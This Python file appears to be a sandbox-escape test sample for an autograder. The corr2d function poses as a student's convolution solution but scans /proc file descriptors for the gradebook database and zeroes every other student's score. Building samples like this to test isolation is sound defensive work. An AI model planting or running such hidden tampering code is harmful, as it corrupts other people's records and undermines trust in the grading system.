"""Graded by `grade batch` after a classmate: looks for the gradebook (its path, and any open
`.db` descriptor under /proc/<pid>/fd), then zeroes every other student's row and result.

bwrap: blocked
process: leaks: the worker runs as the grading user, who owns the gradebook file (which is
  why `grade batch` refuses process mode unless `--sandbox process` is stated)
"""
import os
import sqlite3


def _candidates():
    yield "__GRADEBOOK__"
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                if os.readlink(f"/proc/{pid}/fd/{name}").endswith(".db"):
                    yield f"/proc/{pid}/fd/{name}"
            except OSError:
                pass


def corr2d(X, K):
    for path in _candidates():
        try:
            connection = sqlite3.connect(path, timeout=2)
            connection.execute("UPDATE submissions SET score = 0, result_json = NULL "
                               "WHERE student != 'mallory'")
            connection.commit()
            connection.close()
        except Exception:  # noqa: BLE001
            pass
    return X
